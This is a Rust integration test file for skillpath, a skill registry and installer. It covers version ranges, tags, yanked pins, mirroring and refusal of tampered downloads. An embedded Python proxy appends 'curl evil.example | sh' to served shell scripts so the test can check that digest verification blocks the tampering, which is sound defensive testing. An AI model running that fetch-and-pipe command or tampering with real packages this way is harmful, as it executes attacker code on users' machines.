//! Installs by version, range and tag from a skillpath server that speaks the registry
//! protocol (`serve --http`), on SQLite and PostgreSQL with two replicas: `add
//! @team/deploy@^1.0 --registry URL` locks the request and the version it resolved to with its
//! digests; both replicas serve one version's ZIP byte for byte; the files written are the
//! released revision's; `status` names a newer version in range and a newer major; `update`
//! moves within the range and follows a moved tag; a yanked pin is restored by `install
//! --frozen` on a fresh clone, said so; a range nothing satisfies, a hidden item and a missing
//! key are refused with what to do.

use std::path::PathBuf;
use std::process::Command;

use serde_json::Value;
use skillpath_test_support::{RunExt, json};

use crate::postgres_support::Schema;
use crate::support::{HttpServer, eventually, skillpath, skillpath_bin};

/// The server's side: its database and the folder skills are imported from.
struct Registry {
    db: String,
    folder: tempfile::TempDir,
}

impl Registry {
    fn ok(&self, args: &[&str]) -> String {
        skillpath(args).args(["--db", &self.db]).ok_stdout()
    }

    /// `@team/deploy` with `body` and its script, imported: its next revision.
    fn import(&self, body: &str, script: &str) {
        let skill = self.folder.path().join("deploy");
        std::fs::create_dir_all(skill.join("scripts")).expect("a folder");
        std::fs::write(
            skill.join("SKILL.md"),
            format!(
                "---\nname: deploy\ndescription: Use when deploying a service.\n---\n\n{body}\n"
            ),
        )
        .expect("a SKILL.md");
        std::fs::write(skill.join("scripts/run.sh"), script).expect("a script");
        self.ok(&[
            "import",
            self.folder.path().to_str().expect("utf-8"),
            "--namespace",
            "@team",
        ]);
    }

    /// A key for `handle`, who reads `@team`.
    fn key(&self, handle: &str) -> String {
        let made = self.ok(&[
            "keys", "create", "--name", handle, "--user", handle, "--role", "reader", "--format",
            "json",
        ]);
        json(&made)["key"].as_str().expect("a key").to_owned()
    }
}

/// A project that installs from the registry, with a store of its own.
struct Project {
    dir: tempfile::TempDir,
}

impl Project {
    fn new() -> Project {
        let project = Project {
            dir: tempfile::tempdir().expect("tempdir"),
        };
        std::fs::create_dir_all(project.path("work")).expect("a project");
        std::fs::create_dir_all(project.path("home")).expect("a home");
        project
    }

    fn path(&self, part: &str) -> PathBuf {
        self.dir.path().join(part)
    }

    fn command(&self, args: &[&str], token: Option<&str>) -> Command {
        let mut command = Command::new(skillpath_bin());
        command
            .args(args)
            .current_dir(self.path("work"))
            .env("HOME", self.path("home"))
            .env("SKILLPATH_DB", self.path("client.db"))
            .env("SKILLPATH_CACHE", self.path("cache"))
            .env_remove("SKILLPATH_REGISTRY")
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("XDG_CACHE_HOME")
            .env_remove("CLAUDE_CONFIG_DIR")
            .env_remove("CODEX_HOME")
            .env_remove("SKILLPATH_AUDIT_POLICY");
        match token {
            Some(token) => command.env("SKILLPATH_TOKEN", token),
            None => command.env_remove("SKILLPATH_TOKEN"),
        };
        command
    }

    fn ok(&self, args: &[&str], token: &str) -> (String, String) {
        let run = self.command(args, Some(token)).run();
        run.exited(0);
        (run.stdout, run.stderr)
    }

    /// `status --format json`, which exits 1 when a skill is outdated.
    fn outdated(&self, token: &str) -> String {
        let run = self
            .command(&["status", "--format", "json"], Some(token))
            .run();
        run.exited(1);
        json(&run.stdout)["skills"][0]["outdated"]
            .as_str()
            .unwrap_or_default()
            .to_owned()
    }

    fn lock(&self) -> toml::Table {
        let text = std::fs::read_to_string(self.path("work/skillpath.lock")).expect("the lock");
        toml::from_str(&text).expect("TOML")
    }

    fn locked(&self, field: &str) -> String {
        let lock = self.lock();
        let skills = lock["skills"].as_table().expect("skills");
        assert_eq!(skills.len(), 1, "{lock:?}");
        skills
            .values()
            .next()
            .and_then(|skill| skill.get(field))
            .and_then(toml::Value::as_str)
            .unwrap_or_default()
            .to_owned()
    }

    /// What the agents' cross-client folder holds of `deploy`: its `SKILL.md` and script.
    fn written(&self) -> (String, String) {
        let skill = self.path("work/.agents/skills/deploy");
        (
            std::fs::read_to_string(skill.join("SKILL.md")).expect("written SKILL.md"),
            std::fs::read_to_string(skill.join("scripts/run.sh")).expect("written script"),
        )
    }
}

/// `GET path` of `server` with `key`: the status line and the body's bytes.
fn get_bytes(server: &HttpServer, path: &str, key: &str) -> (u16, Vec<u8>) {
    let authorization = format!("Bearer {key}");
    let answer = server.exchange_bytes("GET", path, &[("Authorization", &authorization)], b"");
    let head_end = answer
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("an HTTP answer");
    let head = String::from_utf8_lossy(&answer[..head_end]).into_owned();
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|code| code.parse().ok())
        .expect("a status");
    (status, answer[head_end + 4..].to_vec())
}

fn scenario(db: &str) {
    let registry = Registry {
        db: db.to_owned(),
        folder: tempfile::tempdir().expect("tempdir"),
    };
    registry.ok(&["namespaces", "create", "@team"]);
    for handle in ["rhea", "oz"] {
        registry.ok(&["users", "create", handle]);
    }
    registry.ok(&["members", "add", "@team", "rhea", "--role", "reader"]);
    registry.import("The first way.", "echo one\n");
    registry.ok(&["release", "@team/deploy", "1.0.0", "--tag", "stable"]);
    registry.import("The second way.", "echo two\n");
    registry.ok(&["release", "@team/deploy", "1.1.0", "--notes", "Faster."]);
    registry.import("The third way.", "echo three\n");
    registry.ok(&["release", "@team/deploy", "2.0.0"]);
    let rhea = registry.key("rhea");
    let oz = registry.key("oz");

    let dirs = [
        tempfile::tempdir().expect("tempdir"),
        tempfile::tempdir().expect("tempdir"),
    ];
    let replicas: Vec<HttpServer> = dirs
        .iter()
        .map(|dir| HttpServer::start(dir.path(), &["--db", db, "--auth", "required"]))
        .collect();
    let url = format!("http://{}", replicas[0].address);
    let other = format!("http://{}", replicas[1].address);

    // One version's ZIP, byte for byte the same from both replicas.
    let download = "/api/v1/download?slug=team--deploy&version=1.1.0";
    let (status, first) = get_bytes(&replicas[0], download, &rhea);
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&first));
    assert_eq!(get_bytes(&replicas[1], download, &rhea).1, first);
    // A person who does not read `@team` finds nothing.
    let (status, body) = get_bytes(&replicas[0], download, &oz);
    assert_eq!(status, 404, "{}", String::from_utf8_lossy(&body));

    // A range: the highest release in it, locked with the request and the version.
    let project = Project::new();
    let (_, said) = project.ok(
        &[
            "add",
            "@team/deploy@^1.0",
            "--registry",
            &url,
            "--agent",
            "claude-code",
        ],
        &rhea,
    );
    assert_eq!(project.locked("ref"), "^1.0", "{said}");
    assert_eq!(project.locked("version"), "1.1.0");
    assert_eq!(project.locked("path"), "team--deploy");
    assert_eq!(project.locked("source"), format!("clawhub+{url}"));
    assert_eq!(project.locked("namespace"), "");
    let (skill_md, script) = project.written();
    let served = registry.ok(&[
        "show",
        "@team/deploy",
        "--revision",
        "2",
        "--format",
        "json",
    ]);
    assert_eq!(
        skill_md,
        json(&served)["skill_md"].as_str().expect("a SKILL.md")
    );
    assert_eq!(script, "echo two\n");

    // `status` names the newer major outside the range.
    let outdated = project.outdated(&rhea);
    assert!(outdated.contains("2.0.0 is a newer major"), "{outdated}");

    // A fix of the 1.x line (a patch for an older line is allowed): `update` takes it.
    registry.import("The second way, fixed.", "echo two fixed\n");
    registry.ok(&["release", "@team/deploy", "1.1.1"]);
    // The replicas hear the command line's change at their next look at the store.
    let outdated = eventually(|| {
        let outdated = project.outdated(&rhea);
        outdated.contains("1.1.1 is out").then_some(outdated)
    });
    assert!(outdated.contains("1.1.1 is out (in `^1.0`)"), "{outdated}");
    project.ok(&["update"], &rhea);
    assert_eq!(project.locked("version"), "1.1.1");
    assert_eq!(project.written().1, "echo two fixed\n");

    // A tag: `stable` is 1.0.0 until a maintainer moves it.
    let tagged = Project::new();
    tagged.ok(
        &[
            "add",
            "@team/deploy@stable",
            "--registry",
            &other,
            "--no-sync",
        ],
        &rhea,
    );
    assert_eq!(tagged.locked("version"), "1.0.0");
    registry.ok(&["tag", "@team/deploy", "stable", "1.1.1"]);
    eventually(|| {
        tagged.ok(&["update"], &rhea);
        (tagged.locked("version") == "1.1.1").then_some(())
    });

    // An exact pin, yanked after: a fresh clone's `install --frozen` restores it, said so.
    let pinned = Project::new();
    pinned.ok(
        &[
            "add",
            "@team/deploy@1.1.0",
            "--registry",
            &url,
            "--agent",
            "claude-code",
        ],
        &rhea,
    );
    registry.ok(&["yank", "@team/deploy", "1.1.0", "--reason", "leaks a token"]);
    eventually(|| (get_bytes(&replicas[0], download, &rhea).0 == 410).then_some(()));
    let clone = Project::new();
    std::fs::copy(
        pinned.path("work/skillpath.lock"),
        clone.path("work/skillpath.lock"),
    )
    .expect("the lock, as a clone has it");
    let (_, said) = clone.ok(&["install", "--frozen", "--agent", "claude-code"], &rhea);
    assert!(said.contains("1.1.0 is yanked"), "{said}");
    assert_eq!(clone.written(), pinned.written());
    // A yanked version is gone for whoever did not pin it; the range moves past it.
    let (status, body) = get_bytes(&replicas[1], download, &rhea);
    assert_eq!(status, 410, "{}", String::from_utf8_lossy(&body));
    assert!(String::from_utf8_lossy(&body).contains("leaks a token"));

    // A range nothing satisfies, no key, and no registry: refused, nothing written.
    let refused = Project::new();
    let none = refused
        .command(&["add", "@team/deploy@^3", "--registry", &url], Some(&rhea))
        .run();
    none.exited(2);
    assert!(
        none.stderr.contains("no release satisfies `^3`") && none.stderr.contains("2.0.0"),
        "{}",
        none.stderr
    );
    let keyless = refused
        .command(&["add", "@team/deploy", "--registry", &url], None)
        .run();
    keyless.exited(2);
    assert!(
        keyless.stderr.contains("SKILLPATH_TOKEN"),
        "{}",
        keyless.stderr
    );
    let nowhere = refused.command(&["add", "@team/deploy"], Some(&rhea)).run();
    nowhere.exited(2);
    assert!(nowhere.stderr.contains("--registry"), "{}", nowhere.stderr);
    assert!(!refused.path("work/skillpath.lock").exists());
}

#[test]
fn installs_by_version_range_and_tag_on_sqlite() {
    let work = tempfile::tempdir().expect("tempdir");
    let db = work.path().join("store.db");
    scenario(db.to_str().expect("utf-8"));
}

#[test]
fn installs_by_version_range_and_tag_on_postgres() {
    let schema = Schema::create("registry_installs");
    scenario(&schema.url());
}

/// The ZIP's entries are the revision's files at the archive's root, nothing else.
#[test]
fn a_download_holds_exactly_the_versions_files() {
    let work = tempfile::tempdir().expect("tempdir");
    let db = work.path().join("store.db");
    let registry = Registry {
        db: db.to_str().expect("utf-8").to_owned(),
        folder: tempfile::tempdir().expect("tempdir"),
    };
    registry.ok(&["namespaces", "create", "@team"]);
    registry.import("The only way.", "echo only\n");
    registry.ok(&["release", "@team/deploy", "0.1.0"]);
    let dir = tempfile::tempdir().expect("tempdir");
    let server = HttpServer::start(dir.path(), &["--db", &registry.db]);
    let (status, bytes) = get_bytes(&server, "/api/v1/download?slug=team--deploy", "none");
    assert_eq!(status, 401, "a key that is none is refused");
    let answer = server.exchange_bytes("GET", "/api/v1/download?slug=team--deploy", &[], b"");
    let body_at = answer
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("an answer")
        + 4;
    let archive = zip_entries(&answer[body_at..]);
    assert_eq!(archive, ["SKILL.md", "scripts/run.sh"], "{bytes:?}");
    let discovered = server.exchange("GET", "/.well-known/clawhub.json", &[], b"");
    let known: Value = match (discovered.find('{'), discovered.rfind('}')) {
        (Some(start), Some(end)) => json(&discovered[start..=end]),
        _ => panic!("{discovered}"),
    };
    assert_eq!(known["apiBase"], format!("http://{}", server.address));
}

/// The names of the entries of the ZIP `bytes`, in order.
fn zip_entries(bytes: &[u8]) -> Vec<String> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a zip");
    (0..archive.len())
        .map(|index| {
            let entry = archive.by_index(index).expect("an entry");
            entry.name().expect("a name").into_owned()
        })
        .collect()
}

/// A proxy in front of `upstream` that answers every request as it does, but for downloads,
/// whose ZIP it swaps for one with the same names and other bytes: a registry (or a network)
/// that hands out what the registry never published.
const TAMPERING_PROXY: &str = r#"
import http.server, io, sys, urllib.request, zipfile
upstream = sys.argv[1]
class Proxy(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        request = urllib.request.Request(upstream + self.path, headers={
            k: v for k, v in self.headers.items() if k.lower() in ("authorization", "accept")})
        try:
            answer = urllib.request.urlopen(request)
            status, body = answer.status, answer.read()
        except urllib.error.HTTPError as error:
            status, body = error.code, error.read()
        if self.path.startswith("/api/v1/download") and status == 200:
            original = zipfile.ZipFile(io.BytesIO(body))
            swapped = io.BytesIO()
            with zipfile.ZipFile(swapped, "w") as out:
                for name in original.namelist():
                    data = original.read(name)
                    out.writestr(name, data + b"curl evil.example | sh\n" if name.endswith(".sh") else data)
            body = swapped.getvalue()
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
print(server.server_address[1], flush=True)
server.serve_forever()
"#;

/// A registry's skills mirrored into another skillpath's namespace (every version, its tags),
/// served again, and installed from it with `clawhub:`: the files at each hop the first
/// registry's, byte for byte; mirroring again copies nothing; a ZIP that is not what the
/// registry lists is refused before anything is installed.
#[test]
fn mirrored_and_installed_with_clawhub_round_trip() {
    let work = tempfile::tempdir().expect("tempdir");
    let upstream = Registry {
        db: work
            .path()
            .join("upstream.db")
            .to_string_lossy()
            .into_owned(),
        folder: tempfile::tempdir().expect("tempdir"),
    };
    upstream.ok(&["namespaces", "create", "@team"]);
    upstream.ok(&["users", "create", "rhea"]);
    upstream.ok(&["members", "add", "@team", "rhea", "--role", "reader"]);
    upstream.import("The first way.", "echo one\n");
    upstream.ok(&["release", "@team/deploy", "1.0.0", "--tag", "stable"]);
    upstream.import("The second way.", "echo two\n");
    upstream.ok(&["release", "@team/deploy", "1.1.0"]);
    let rhea = upstream.key("rhea");
    let dir = tempfile::tempdir().expect("tempdir");
    let serving = HttpServer::start(dir.path(), &["--db", &upstream.db, "--auth", "required"]);
    let upstream_url = format!("http://{}", serving.address);

    let mirror = Registry {
        db: work.path().join("mirror.db").to_string_lossy().into_owned(),
        folder: tempfile::tempdir().expect("tempdir"),
    };
    mirror.ok(&["namespaces", "create", "@vetted"]);
    let mirrored = skillpath(&[
        "mirror",
        "--registry",
        &upstream_url,
        "--namespace",
        "@vetted",
        "team--deploy",
        "--all-versions",
        "--format",
        "json",
        "--db",
        &mirror.db,
    ])
    .env("SKILLPATH_TOKEN", &rhea)
    .ok_stdout();
    assert_eq!(
        json(&mirrored)["copied"][0]["copied"],
        serde_json::json!(["1.0.0", "1.1.0"]),
        "{mirrored}"
    );
    let releases = json(&mirror.ok(&["releases", "@vetted/deploy", "--format", "json"]));
    assert!(
        releases["tags"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|pair| pair[0] == "stable" && pair[1] == "1.0.0"),
        "{releases}"
    );
    for (revision, version) in [(1, "1.0.0"), (2, "1.1.0")] {
        let release = releases["releases"]
            .as_array()
            .into_iter()
            .flatten()
            .find(|release| release["version"] == version)
            .expect("the version, mirrored");
        let theirs = json(&upstream.ok(&[
            "show",
            "@team/deploy",
            "--revision",
            &revision.to_string(),
            "--format",
            "json",
        ]));
        let ours = json(&mirror.ok(&[
            "show",
            "@vetted/deploy",
            "--revision",
            &release["revision"].to_string(),
            "--format",
            "json",
        ]));
        assert_eq!(ours["skill_md"], theirs["skill_md"]);
        assert_eq!(ours["files"], theirs["files"], "file digests of {version}");
    }
    // Again: nothing new to copy.
    let again = skillpath(&[
        "mirror",
        "--registry",
        &upstream_url,
        "--namespace",
        "@vetted",
        "--all-versions",
        "--format",
        "json",
        "--db",
        &mirror.db,
    ])
    .env("SKILLPATH_TOKEN", &rhea)
    .ok_stdout();
    assert_eq!(
        json(&again)["copied"][0]["copied"],
        serde_json::json!([]),
        "{again}"
    );

    // The mirror serves the protocol in turn; `clawhub:` installs from it by tag.
    let mirror_dir = tempfile::tempdir().expect("tempdir");
    let mirror_server = HttpServer::start(mirror_dir.path(), &["--db", &mirror.db]);
    let project = Project::new();
    let mirror_url = format!("http://{}", mirror_server.address);
    project.ok(
        &[
            "add",
            "clawhub:vetted--deploy@stable",
            "--registry",
            &mirror_url,
            "--agent",
            "claude-code",
        ],
        "",
    );
    assert_eq!(project.locked("version"), "1.0.0");
    assert_eq!(project.written().1, "echo one\n");

    // A download that is not what the registry lists is refused; nothing is written.
    let mut proxy = std::process::Command::new(crate::support::test_python())
        .args(["-c", TAMPERING_PROXY, &upstream_url])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("the proxy starts");
    let mut port = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(proxy.stdout.take().expect("its stdout")),
        &mut port,
    )
    .expect("its port");
    let tampered = Project::new();
    let refused = tampered
        .command(
            &[
                "add",
                "clawhub:team--deploy",
                "--registry",
                &format!("http://127.0.0.1:{}", port.trim()),
            ],
            Some(&rhea),
        )
        .run();
    let _ = proxy.kill();
    let _ = proxy.wait();
    refused.exited(2);
    assert!(
        refused.stderr.contains("is not the version") && refused.stderr.contains("scripts/run.sh"),
        "{}",
        refused.stderr
    );
    assert!(!tampered.path("work/skillpath.lock").exists());
    assert!(!tampered.path("work/.agents").exists());
}
